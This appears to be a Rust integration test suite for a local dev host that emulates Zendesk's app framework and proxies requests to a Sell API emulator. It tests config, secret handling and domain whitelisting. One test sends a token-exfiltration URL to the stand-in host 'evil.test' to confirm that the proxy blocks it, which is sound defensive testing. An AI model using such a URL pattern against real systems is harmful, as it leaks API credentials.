//! The dev host over real HTTP: the agent page, its state endpoints and the ZAF request proxy in
//! front of the Sell emulator. Each test starts its own host on a free port.

use std::path::PathBuf;

use devhost::host::{serve, HostOptions, RunningHost};
use serde_json::{json, Value};

const AGENT_EMAILS: [&str; 6] = [
    "ada@acme.test",
    "nora@acme.test",
    "ivan@acme.test",
    "zed@acme.test",
    "max@acme.test",
    "sofia@acme.test",
];
const ADA_SELL_ID: u64 = 1;
const NORA_SELL_ID: u64 = 3;

struct Host {
    running: RunningHost,
    http: reqwest::Client,
}

/// A host on a free port, serving the app from `app_dir` (a folder that need not exist).
async fn start_with_app_dir(app_dir: PathBuf) -> Host {
    let options = HostOptions {
        port: 0,
        app_dir,
        ..HostOptions::default()
    };
    let running = serve(options)
        .await
        .expect("the host starts on a free port");
    Host {
        running,
        http: reqwest::Client::new(),
    }
}

async fn start() -> Host {
    start_with_app_dir(PathBuf::from("/nonexistent/devhost-test-dist")).await
}

impl Host {
    fn url(&self, path: &str) -> String {
        format!("http://{}{}", self.running.addr, path)
    }

    fn port(&self) -> u16 {
        self.running.addr.port()
    }

    async fn get_text(&self, path: &str) -> (u16, String) {
        let response = self
            .http
            .get(self.url(path))
            .send()
            .await
            .expect("GET reaches the host");
        let status = response.status().as_u16();
        (status, response.text().await.expect("a text body"))
    }

    async fn get_json(&self, path: &str) -> Value {
        let (status, text) = self.get_text(path).await;
        assert_eq!(status, 200, "GET {path}: {text}");
        serde_json::from_str(&text).expect("a JSON body")
    }

    async fn post_json(&self, path: &str, body: Value) -> (u16, Value) {
        let response = self
            .http
            .post(self.url(path))
            .json(&body)
            .send()
            .await
            .expect("POST reaches the host");
        let status = response.status().as_u16();
        let text = response.text().await.expect("a body");
        (
            status,
            serde_json::from_str(&text).unwrap_or(Value::String(text)),
        )
    }

    /// What the page does for the app's `request:<n>`: the reply `{outcome, responseArgs, log}`.
    /// Only the options: Zendesk's proxy fills the installation's settings, whoever the agent is.
    async fn proxy(&self, options: Value) -> Value {
        let (status, reply) = self
            .post_json("/_host/proxy", json!({ "options": options }))
            .await;
        assert_eq!(
            status, 200,
            "the proxy endpoint itself answers 200: {reply}"
        );
        reply
    }

    async fn last_sell_log(&self) -> Value {
        let log = self.get_json("/_emu/log").await;
        log.as_array()
            .and_then(|entries| entries.last().cloned())
            .unwrap_or(Value::Null)
    }

    fn every_secret(&self) -> Vec<String> {
        let emulator = &self.running.emulator;
        let mut secrets: Vec<String> = AGENT_EMAILS
            .iter()
            .filter_map(|email| emulator.token_for(email))
            .collect();
        secrets.push(emulator.admin_token());
        secrets
    }
}

fn sell_get(path: &str, authorization: &str, secure: bool) -> Value {
    json!({
        "url": format!("https://api.getbase.com{path}"),
        "type": "GET",
        "secure": secure,
        "headers": {"Authorization": authorization, "Accept": "application/json"},
    })
}

// ---------------------------------------------------------------------------- the page

#[tokio::test]
async fn the_page_frames_the_app_from_the_other_loopback_origin_with_origin_and_guid() {
    let host = start().await;
    let (status, html) = host.get_text("/").await;
    assert_eq!(status, 200);
    let port = host.port();
    let expected = format!(
        r#"src="http://localhost:{port}/app/index.html?origin=http%3A%2F%2F127.0.0.1%3A{port}&amp;app_guid="#
    );
    assert!(html.contains(&expected), "iframe src not found in:\n{html}");
    assert!(html.contains(r#"id="app-frame""#));
    assert!(html.contains(r#"title="Zendesk Sell app""#));
}

#[tokio::test]
async fn a_page_opened_on_localhost_frames_the_app_from_127_0_0_1() {
    let host = start().await;
    let port = host.port();
    let response = host
        .http
        .get(host.url("/"))
        .header("Host", format!("localhost:{port}"))
        .send()
        .await
        .expect("GET reaches the host");
    let html = response.text().await.expect("a body");
    assert!(html.contains(&format!(
        r#"src="http://127.0.0.1:{port}/app/index.html?origin=http%3A%2F%2Flocalhost%3A{port}&amp;"#
    )));
}

#[tokio::test]
async fn each_page_load_gets_a_new_app_guid() {
    let host = start().await;
    let guid = |html: String| {
        html.split("data-app-guid=\"")
            .nth(1)
            .and_then(|rest| rest.split('"').next())
            .map(str::to_owned)
    };
    let first = guid(host.get_text("/").await.1).expect("a guid");
    let second = guid(host.get_text("/").await.1).expect("a guid");
    assert_ne!(first, second);
}

#[tokio::test]
async fn the_page_script_and_style_are_served_and_the_page_allows_only_its_own_origin_and_the_app()
{
    let host = start().await;
    let response = host.http.get(host.url("/")).send().await.expect("GET /");
    let csp = response
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned();
    assert!(csp.contains("default-src 'self'"), "{csp}");
    assert!(
        csp.contains(&format!("frame-src http://localhost:{}", host.port())),
        "{csp}"
    );

    let js = host
        .http
        .get(host.url("/_host/page/host.js"))
        .send()
        .await
        .expect("GET host.js");
    assert!(js.headers()["content-type"]
        .to_str()
        .unwrap_or("")
        .starts_with("text/javascript"));
    assert!(js
        .text()
        .await
        .unwrap_or_default()
        .contains("window.__devhost"));
    let (status, css) = host.get_text("/_host/page/host.css").await;
    assert_eq!(status, 200);
    assert!(css.contains(".apps-tray"));
}

#[tokio::test]
async fn the_app_is_served_from_the_app_dir_and_a_missing_build_says_how_to_make_one() {
    let missing = start().await;
    let (status, text) = missing.get_text("/app/index.html").await;
    assert_eq!(status, 404);
    assert!(text.contains("trunk build"), "{text}");

    let dir = std::env::temp_dir().join(format!("devhost-app-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    std::fs::write(
        dir.join("index.html"),
        "<!doctype html><title>the app</title>",
    )
    .expect("write index.html");
    let built = start_with_app_dir(dir.clone()).await;
    let (status, text) = built.get_text("/app/index.html?origin=x&app_guid=y").await;
    assert_eq!(status, 200);
    assert!(text.contains("the app"));
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test]
async fn the_emulator_control_api_is_on_the_same_port() {
    let host = start().await;
    assert!(host.get_json("/_emu/log").await.is_array());
    let (status, _) = host.post_json("/_emu/reset", json!({})).await;
    assert!((200..300).contains(&status));
}

// ---------------------------------------------------------------------------- state

#[tokio::test]
async fn config_starts_at_ada_on_ticket_102_with_default_settings() {
    let host = start().await;
    let config = host.get_json("/_host/config").await;
    assert_eq!(config["agent"], json!("ada@acme.test"));
    assert_eq!(config["ticket"], json!(102));
    assert_eq!(config["locale"], Value::Null);
    assert_eq!(config["requester_override"], Value::Null);
    assert_eq!(
        config["settings"],
        json!({
            "all_agents_access": false, "full_access_users": "",
            "lead_status": "New", "lead_source": "Zendesk Support",
            "lead_owners": "", "agents_assign_owner": false, "account_owner": "",
            "lead_fields": "", "contact_fields": "", "deal_fields": "",
        })
    );
}

#[tokio::test]
async fn config_round_trips_and_drives_what_the_app_is_told() {
    let host = start().await;
    let (status, posted) = host
        .post_json(
            "/_host/config",
            json!({"agent": "nora@acme.test", "ticket": 104, "locale": "en-US",
                   "settings": {"all_agents_access": true, "lead_owners": "Inbound pool",
                                "full_access_users": "4\nmax@acme.test"},
                   "requester_override": {"email": "dana.new@dupe.test"}}),
        )
        .await;
    assert_eq!(status, 200, "{posted}");
    let config = host.get_json("/_host/config").await;
    assert_eq!(config, posted);
    assert_eq!(
        config["settings"]["lead_status"],
        json!("New"),
        "settings not named keep their value"
    );

    let zaf = host.get_json("/_host/zaf").await;
    assert_eq!(zaf["data"]["currentUser"]["email"], json!("nora@acme.test"));
    assert_eq!(zaf["data"]["currentUser"]["locale"], json!("en-US"));
    assert_eq!(zaf["data"]["ticket.id"], json!(104));
    assert_eq!(
        zaf["data"]["ticket.requester.email"],
        json!("dana.new@dupe.test")
    );
    assert_eq!(zaf["context"]["ticketId"], json!(104));
    assert_eq!(
        zaf["metadata"]["settings"]["all_agents_access"],
        json!(true)
    );
    assert_eq!(
        zaf["metadata"]["settings"]["lead_owners"],
        json!("Inbound pool")
    );
    assert_eq!(
        zaf["metadata"]["settings"]["full_access_users"],
        json!("4\nmax@acme.test")
    );
}

#[tokio::test]
async fn a_bad_config_is_refused_with_a_message_and_changes_nothing() {
    let host = start().await;
    let (status, body) = host
        .post_json(
            "/_host/config",
            json!({"agent": "tom@acme.test", "ticket": 101}),
        )
        .await;
    assert_eq!(status, 400, "Tom is a Sell user but no Support agent");
    assert!(
        body["error"]
            .as_str()
            .unwrap_or("")
            .contains("tom@acme.test"),
        "{body}"
    );
    let config = host.get_json("/_host/config").await;
    assert_eq!(
        (config["agent"].clone(), config["ticket"].clone()),
        (json!("ada@acme.test"), json!(102))
    );

    let (status, body) = host
        .post_json(
            "/_host/config",
            json!({"settings": {"sell_api_token": "x"}}),
        )
        .await;
    assert_eq!(status, 400, "{body}");
}

#[tokio::test]
async fn the_catalog_lists_the_six_agents_and_eight_tickets() {
    let host = start().await;
    let catalog = host.get_json("/_host/catalog").await;
    let emails: Vec<&str> = catalog["agents"]
        .as_array()
        .map(|a| a.iter().filter_map(|x| x["email"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(emails, AGENT_EMAILS);
    assert_eq!(catalog["tickets"].as_array().map(Vec::len), Some(8));
}

#[tokio::test]
async fn the_location_switch_changes_what_the_app_is_told_and_refuses_unknown_places() {
    let host = start().await;
    let zaf = host.get_json("/_host/zaf").await;
    assert_eq!(zaf["context"]["location"], json!("ticket_sidebar"));
    assert_eq!(
        host.get_json("/_host/config").await["location"],
        json!("ticket_sidebar")
    );

    let (status, config) = host
        .post_json(
            "/_host/config",
            json!({"location": "user_sidebar", "user": 5109}),
        )
        .await;
    assert_eq!(status, 200, "{config}");
    assert_eq!(
        (config["location"].clone(), config["user"].clone()),
        (json!("user_sidebar"), json!(5109))
    );
    let zaf = host.get_json("/_host/zaf").await;
    assert_eq!(zaf["context"]["location"], json!("user_sidebar"));
    assert_eq!(zaf["context"]["userId"], json!(5109));
    assert_eq!(zaf["data"]["user"]["email"], json!("olga@first.test"));
    assert_eq!(
        zaf["data"]["user"]["identities"][1]["value"],
        json!("olga@second.test")
    );
    assert!(zaf["data"].get("ticket.requester").is_none());
    assert_eq!(
        zaf["unavailable"]["ticket"],
        json!("not available in this location (user_sidebar)")
    );

    let (status, body) = host
        .post_json(
            "/_host/config",
            json!({"requester_override": {"email": "x@y.test"}}),
        )
        .await;
    assert_eq!(status, 400, "no ticket in a user sidebar: {body}");

    let (status, _) = host
        .post_json(
            "/_host/config",
            json!({"location": "organization_sidebar", "organization": 7202}),
        )
        .await;
    assert_eq!(status, 200);
    let zaf = host.get_json("/_host/zaf").await;
    assert_eq!(
        zaf["data"]["organization"],
        json!({"id": 7202, "name": "Nowhere Ltd"})
    );
    assert_eq!(zaf["context"]["organizationId"], json!(7202));

    for bad in [
        json!({"location": "nav_bar"}),
        json!({"user": 9001}),
        json!({"organization": 1}),
    ] {
        let (status, body) = host.post_json("/_host/config", bad.clone()).await;
        assert_eq!(status, 400, "{bad}: {body}");
    }
    assert_eq!(
        host.get_json("/_host/config").await["organization"],
        json!(7202)
    );
}

#[tokio::test]
async fn a_new_ticket_starts_empty_and_takes_a_requester_and_a_subject() {
    let host = start().await;
    let (status, _) = host
        .post_json("/_host/config", json!({"location": "new_ticket_sidebar"}))
        .await;
    assert_eq!(status, 200);
    let zaf = host.get_json("/_host/zaf").await;
    assert!(
        zaf["context"].get("ticketId").is_none(),
        "{}",
        zaf["context"]
    );
    assert_eq!(
        (
            zaf["data"]["ticket.id"].clone(),
            zaf["data"]["ticket.requester"].clone(),
            zaf["data"]["ticket.subject"].clone(),
            zaf["data"]["ticket.organization"].clone()
        ),
        (Value::Null, Value::Null, json!(""), Value::Null)
    );
    let (status, body) = host
        .post_json(
            "/_host/config",
            json!({"requester_override": {"email": "olga@first.test", "name": "Olga Other", "id": 5109},
                   "new_ticket_subject": "Callback about pricing"}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let zaf = host.get_json("/_host/zaf").await;
    assert_eq!(zaf["data"]["ticket.requester.id"], json!(5109));
    assert_eq!(
        zaf["data"]["ticket.requester.email"],
        json!("olga@first.test")
    );
    assert_eq!(
        zaf["data"]["ticket.subject"],
        json!("Callback about pricing")
    );
    assert_eq!(zaf["data"]["ticket.id"], Value::Null);

    // Back on a ticket, the form's requester and subject are gone.
    host.post_json("/_host/config", json!({"location": "ticket_sidebar"}))
        .await;
    let config = host.get_json("/_host/config").await;
    assert_eq!(
        (
            config["requester_override"].clone(),
            config["new_ticket_subject"].clone()
        ),
        (Value::Null, json!(""))
    );
}

/// The Support seed and the Sell seed tell one story: each Support organization finds the Sell
/// organizations of its name (by Sell's `name` filter, as the installation's token sees them), and
/// Olga is in Sell by her second identity only.
#[tokio::test]
async fn support_organizations_and_identities_meet_their_sell_records_through_the_proxy() {
    let host = start().await;
    let catalog = host.get_json("/_host/catalog").await;
    let organizations = catalog["organizations"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let mut found = Vec::new();
    for organization in &organizations {
        let name = organization["name"].as_str().unwrap_or_default();
        let reply = host
            .proxy(json!({
                "url": "https://api.getbase.com/v2/contacts",
                "type": "GET",
                "secure": true,
                "data": {"name": name, "is_organization": true},
                "headers": {"Authorization": "Bearer {{setting.sell_api_token}}"},
            }))
            .await;
        let count = reply["responseArgs"][0]["items"].as_array().map(Vec::len);
        found.push((organization["id"].clone(), count));
    }
    assert_eq!(
        found,
        [
            (json!(7102), Some(1)),
            (json!(7106), Some(0)),
            (json!(7201), Some(2)),
            (json!(7202), Some(0))
        ]
    );
    host.post_json(
        "/_host/config",
        json!({"location": "user_sidebar", "user": 5109}),
    )
    .await;
    let user = host.get_json("/_host/zaf").await["data"]["user"].clone();
    let mut in_sell = Vec::new();
    for identity in user["identities"].as_array().cloned().unwrap_or_default() {
        let email = identity["value"].as_str().unwrap_or_default().to_owned();
        let reply = host
            .proxy(sell_get(
                &format!("/v2/leads?email={email}"),
                "Bearer {{setting.sell_api_token}}",
                true,
            ))
            .await;
        in_sell.push((
            email,
            reply["responseArgs"][0]["items"].as_array().map(Vec::len),
        ));
    }
    assert_eq!(
        in_sell,
        [
            ("olga@first.test".to_owned(), Some(0)),
            ("olga@second.test".to_owned(), Some(1))
        ]
    );
}

/// The switcher's Sell label of each agent, checked against the emulator's users: a label that
/// drifted from the Sell seed would mislead whoever picks an agent to test visibility.
#[tokio::test]
async fn each_agents_sell_label_matches_the_emulators_users() {
    let host = start().await;
    let catalog = host.get_json("/_host/catalog").await;
    let users = host.get_json("/_emu/state").await["users"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let agents = catalog["agents"].as_array().cloned().unwrap_or_default();
    assert_eq!(agents.len(), AGENT_EMAILS.len());
    for agent in &agents {
        let email = agent["email"].as_str().unwrap_or_default();
        let user = users.iter().find(|u| u["email"] == json!(email));
        let standing = match user {
            None => "no Sell user",
            Some(user) if user["status"] != json!("active") => "inactive Sell user",
            Some(user) if user["reports_to"].is_null() => "Sell admin, top-most manager",
            Some(user) => {
                let has_reports = users
                    .iter()
                    .any(|other| other["reports_to"] == user["id"] && other["email"].is_string());
                if has_reports {
                    "Sell manager"
                } else {
                    "Sell user"
                }
            }
        };
        assert_eq!(agent["sell"], json!(standing), "{email}");
    }
    let manager_emails: Vec<&str> = agents
        .iter()
        .filter(|a| a["sell"] == json!("Sell manager"))
        .filter_map(|a| a["email"].as_str())
        .collect();
    assert_eq!(manager_emails, ["max@acme.test", "sofia@acme.test"]);
}

#[tokio::test]
async fn secure_settings_never_appear_in_any_page_or_get_response() {
    let host = start().await;
    // Make the request log non-empty: the installation token, and a name no setting fills.
    for token in ["sell_api_token", "sell_user_token"] {
        let options = sell_get(
            "/v2/users/self",
            &format!("Bearer {{{{setting.{token}}}}}"),
            true,
        );
        host.proxy(options).await;
    }
    let (status, answer) = host
        .post_json(
            "/_host/secure",
            json!({"sell_api_token": "custom-secret-token"}),
        )
        .await;
    assert_eq!(status, 200);
    let mut secrets = host.every_secret();
    secrets.push("custom-secret-token".into());
    assert!(
        !answer.to_string().contains("custom-secret-token"),
        "POST /_host/secure echoes no value"
    );

    for path in [
        "/",
        "/_host/config",
        "/_host/zaf",
        "/_host/catalog",
        "/_host/requests",
        "/_host/page/host.js",
        "/_host/page/host.css",
    ] {
        let (status, text) = host.get_text(path).await;
        assert_eq!(status, 200, "GET {path}");
        for secret in &secrets {
            assert!(
                !text.contains(secret.as_str()),
                "GET {path} shows a secure value"
            );
        }
        assert!(!text.contains("sellemu-"), "GET {path} shows a Sell token");
    }
}

// ---------------------------------------------------------------------------- the proxy

#[tokio::test]
async fn a_secure_request_gets_the_installation_token_filled_in_on_the_server() {
    let host = start().await;
    let reply = host
        .proxy(sell_get(
            "/v2/users/self",
            "Bearer {{setting.sell_api_token}}",
            true,
        ))
        .await;
    assert_eq!(reply["outcome"], json!("done"), "{reply}");
    assert_eq!(reply["responseArgs"][0]["data"]["id"], json!(ADA_SELL_ID));
    assert_eq!(host.last_sell_log().await["user_id"], json!(ADA_SELL_ID));
    assert_eq!(reply["log"]["credential"], json!("installation"));
    assert_eq!(reply["log"]["path"], json!("/v2/users/self"));
}

#[tokio::test]
async fn a_non_secure_request_is_sent_with_its_placeholder_as_written() {
    let host = start().await;
    let reply = host
        .proxy(sell_get(
            "/v2/users/self",
            "Bearer {{setting.sell_api_token}}",
            false,
        ))
        .await;
    assert_eq!(reply["outcome"], json!("fail"), "{reply}");
    assert_eq!(reply["responseArgs"][0]["status"], json!(401));
    let logged = host.last_sell_log().await;
    assert_eq!(logged["status"], json!(401));
    assert_eq!(
        logged["user_id"],
        Value::Null,
        "the literal placeholder is no one's token"
    );
    assert_eq!(reply["log"]["credential"], json!("none"));
}

#[tokio::test]
async fn the_old_per_agent_placeholder_is_not_filled_and_sell_refuses_it_whoever_the_agent_is() {
    let host = start().await;
    let options = sell_get("/v2/users/self", "Bearer {{setting.sell_user_token}}", true);
    for agent in AGENT_EMAILS {
        host.post_json("/_host/config", json!({"agent": agent}))
            .await;
        let reply = host.proxy(options.clone()).await;
        assert_eq!(reply["outcome"], json!("fail"), "{agent}: {reply}");
        assert_eq!(reply["responseArgs"][0]["status"], json!(401), "{agent}");
        assert_eq!(
            reply["log"]["credential"],
            json!("unknown:sell_user_token"),
            "{agent}"
        );
        let logged = host.last_sell_log().await;
        assert_eq!(
            (logged["status"].clone(), logged["user_id"].clone()),
            (json!(401), Value::Null),
            "{agent}: the placeholder went out as written, no one's token"
        );
    }
}

#[tokio::test]
async fn every_agent_s_secure_request_carries_the_one_installation_token() {
    let host = start().await;
    let options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
    for agent in AGENT_EMAILS {
        host.post_json("/_host/config", json!({"agent": agent}))
            .await;
        let reply = host.proxy(options.clone()).await;
        assert_eq!(
            reply["responseArgs"][0]["data"]["id"],
            json!(ADA_SELL_ID),
            "{agent}: {reply}"
        );
        assert_eq!(reply["log"]["credential"], json!("installation"));
        assert_eq!(host.last_sell_log().await["user_id"], json!(ADA_SELL_ID));
    }
}

#[tokio::test]
async fn a_secure_setting_set_on_the_host_replaces_the_installation_token() {
    let host = start().await;
    host.post_json("/_host/secure", json!({"sell_api_token": "revoked-token"}))
        .await;
    let options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
    let refused = host.proxy(options.clone()).await;
    assert_eq!(refused["responseArgs"][0]["status"], json!(401));
    host.post_json("/_host/secure", json!({"sell_api_token": null}))
        .await;
    let back = host.proxy(options).await;
    assert_eq!(back["responseArgs"][0]["data"]["id"], json!(ADA_SELL_ID));
}

#[tokio::test]
async fn a_domain_outside_the_whitelist_fails_with_403_and_is_not_sent() {
    let host = start().await;
    host.http
        .delete(host.url("/_emu/log"))
        .send()
        .await
        .expect("clear the emulator log");
    let options =
        json!({"url": "https://evil.test/steal?t={{setting.sell_api_token}}", "secure": true});
    let reply = host.proxy(options).await;
    assert_eq!(reply["outcome"], json!("fail"));
    let args = reply["responseArgs"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(args.len(), 3);
    assert_eq!(args[0]["status"], json!(403));
    assert_eq!(args[0]["statusText"], json!("Forbidden"));
    assert!(
        args[0]["responseText"]
            .as_str()
            .unwrap_or("")
            .starts_with("Domain not allowed"),
        "{reply}"
    );
    assert_eq!(
        (args[1].clone(), args[2].clone()),
        (json!("error"), json!("Forbidden"))
    );
    assert_eq!(
        host.get_json("/_emu/log").await,
        json!([]),
        "nothing reached Sell"
    );
    assert!(
        !reply
            .to_string()
            .contains(&host.running.emulator.admin_token()),
        "the refused URL is not filled back to the app"
    );
}

#[tokio::test]
async fn done_replies_have_jquery_shape_without_and_one_full_response_with_http_complete_response()
{
    let host = start().await;
    let plain = host
        .proxy(sell_get(
            "/v2/lead_statuses?per_page=100",
            "Bearer {{setting.sell_api_token}}",
            true,
        ))
        .await;
    assert_eq!(plain["outcome"], json!("done"));
    let args = plain["responseArgs"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert_eq!(args.len(), 3);
    assert!(
        args[0]["items"].is_array(),
        "the parsed body comes first: {plain}"
    );
    assert_eq!(args[1], json!("success"));
    assert_eq!(args[2]["status"], json!(200));

    let mut options = sell_get(
        "/v2/lead_statuses?per_page=100",
        "Bearer {{setting.sell_api_token}}",
        true,
    );
    options["httpCompleteResponse"] = json!(true);
    let full = host.proxy(options).await;
    let args = full["responseArgs"].as_array().cloned().unwrap_or_default();
    assert_eq!(args.len(), 1);
    assert_eq!(args[0]["status"], json!(200));
    assert!(args[0]["responseJSON"]["items"].is_array());
    assert!(args[0]["responseText"]
        .as_str()
        .unwrap_or("")
        .starts_with('{'));
    assert!(
        args[0]["headers"]["content-type"]
            .as_str()
            .unwrap_or("")
            .contains("json"),
        "{full}"
    );
}

#[tokio::test]
async fn non_2xx_answers_fail_with_the_xhr_the_word_error_and_the_status_text_whatever_the_flag() {
    let host = start().await;
    for complete in [false, true] {
        let mut options = sell_get(
            "/v2/leads/987654",
            "Bearer {{setting.sell_api_token}}",
            true,
        );
        options["httpCompleteResponse"] = json!(complete);
        let reply = host.proxy(options).await;
        assert_eq!(reply["outcome"], json!("fail"), "{reply}");
        let args = reply["responseArgs"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        assert_eq!(args[0]["status"], json!(404));
        assert_eq!(args[0]["statusText"], json!("Not Found"));
        assert!(
            args[0]["responseJSON"]["errors"].is_array(),
            "a Sell error body: {reply}"
        );
        assert!(args[0]["headers"].is_object());
        assert_eq!(
            (args[1].clone(), args[2].clone()),
            (json!("error"), json!("Not Found"))
        );
    }
}

#[tokio::test]
async fn an_injected_429_reaches_the_app_with_its_retry_after_header() {
    let host = start().await;
    let faults = json!({"latency_ms": 0, "rules": [{"path_contains": "/v2/leads", "times": 1, "kind": "status", "status": 429, "retry_after": 5}]});
    let (status, _) = host.post_json("/_emu/faults", faults).await;
    assert!((200..300).contains(&status));
    let reply = host
        .proxy(sell_get(
            "/v2/leads?email=lea%40lead-only.test",
            "Bearer {{setting.sell_api_token}}",
            true,
        ))
        .await;
    assert_eq!(reply["responseArgs"][0]["status"], json!(429), "{reply}");
    assert_eq!(
        reply["responseArgs"][0]["headers"]["retry-after"],
        json!("5")
    );
    let again = host
        .proxy(sell_get(
            "/v2/leads?email=lea%40lead-only.test",
            "Bearer {{setting.sell_api_token}}",
            true,
        ))
        .await;
    assert_eq!(again["outcome"], json!("done"), "the fault fired once");
}

#[tokio::test]
async fn a_request_slower_than_its_timeout_fails_with_status_0_timeout() {
    let host = start().await;
    host.post_json("/_emu/faults", json!({"latency_ms": 3000, "rules": []}))
        .await;
    let mut options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
    options["timeout"] = json!(200);
    let started = std::time::Instant::now();
    let reply = host.proxy(options).await;
    assert!(
        started.elapsed() < std::time::Duration::from_millis(2500),
        "the proxy gave up at the timeout"
    );
    assert_eq!(reply["outcome"], json!("fail"));
    assert_eq!(reply["responseArgs"][0]["status"], json!(0));
    assert_eq!(reply["responseArgs"][0]["statusText"], json!("timeout"));
    assert_eq!(reply["log"]["status"], Value::Null);
}

#[tokio::test]
async fn a_post_with_a_json_body_creates_a_lead_and_carries_the_proxy_user_agent() {
    let host = start().await;
    let options = json!({
        "url": "https://api.getbase.com/v2/leads",
        "type": "POST",
        "contentType": "application/json",
        "secure": true,
        "headers": {"Authorization": "Bearer {{setting.sell_api_token}}"},
        "data": json!({"data": {"last_name": "Proxied", "email": "proxied@lead.test", "owner_id": NORA_SELL_ID}}).to_string(),
        "httpCompleteResponse": true,
    });
    let reply = host.proxy(options).await;
    assert_eq!(reply["outcome"], json!("done"), "{reply}");
    assert_eq!(
        reply["responseArgs"][0]["responseJSON"]["data"]["last_name"],
        json!("Proxied")
    );
    assert_eq!(
        reply["responseArgs"][0]["responseJSON"]["data"]["owner_id"],
        json!(NORA_SELL_ID),
        "the owner the app set explicitly"
    );
    assert_eq!(
        reply["responseArgs"][0]["responseJSON"]["data"]["creator_id"],
        json!(ADA_SELL_ID),
        "the creator is the installation token's user, whoever the agent is"
    );
    let logged = host.last_sell_log().await;
    assert_eq!(
        (logged["method"].clone(), logged["user_id"].clone()),
        (json!("POST"), json!(ADA_SELL_ID))
    );
}

#[tokio::test]
async fn get_data_becomes_the_query_string() {
    let host = start().await;
    let options = json!({
        "url": "https://api.getbase.com/v2/leads",
        "secure": true,
        "headers": {"Authorization": "Bearer {{setting.sell_api_token}}"},
        "data": {"email": "lea@lead-only.test"},
    });
    let reply = host.proxy(options).await;
    assert_eq!(reply["outcome"], json!("done"), "{reply}");
    assert_eq!(reply["log"]["path"], json!("/v2/leads"));
    let logged = host.last_sell_log().await;
    assert!(
        logged["query"]
            .as_str()
            .unwrap_or("")
            .contains("email=lea%40lead-only.test"),
        "{logged}"
    );
    assert_eq!(
        reply["responseArgs"][0]["items"].as_array().map(Vec::len),
        Some(1)
    );
}

#[tokio::test]
async fn bad_options_fail_like_a_refused_request() {
    let host = start().await;
    let no_url = host.proxy(json!({"type": "GET"})).await;
    assert_eq!(no_url["outcome"], json!("fail"));
    assert_eq!(no_url["responseArgs"][0]["status"], json!(400));
    let underscore = host
        .proxy(json!({"url": "https://api.getbase.com/v2/users/self", "headers": {"X_Token": "a"}}))
        .await;
    assert!(underscore["responseArgs"][0]["responseText"]
        .as_str()
        .unwrap_or("")
        .contains("underscore"));
}

#[tokio::test]
async fn the_request_log_lists_each_proxied_call_and_can_be_cleared() {
    let host = start().await;
    host.proxy(sell_get(
        "/v2/users/self",
        "Bearer {{setting.sell_api_token}}",
        true,
    ))
    .await;
    host.proxy(json!({"url": "https://evil.test/"})).await;
    let log = host.get_json("/_host/requests").await;
    let rows: Vec<(Value, Value, Value)> = log
        .as_array()
        .map(|rows| {
            rows.iter()
                .map(|r| {
                    (
                        r["path"].clone(),
                        r["credential"].clone(),
                        r["status"].clone(),
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(
        rows,
        [
            (json!("/v2/users/self"), json!("installation"), json!(200)),
            (json!("https://evil.test/"), json!("none"), json!(403)),
        ]
    );
    host.http
        .delete(host.url("/_host/requests"))
        .send()
        .await
        .expect("DELETE");
    assert_eq!(host.get_json("/_host/requests").await, json!([]));
}
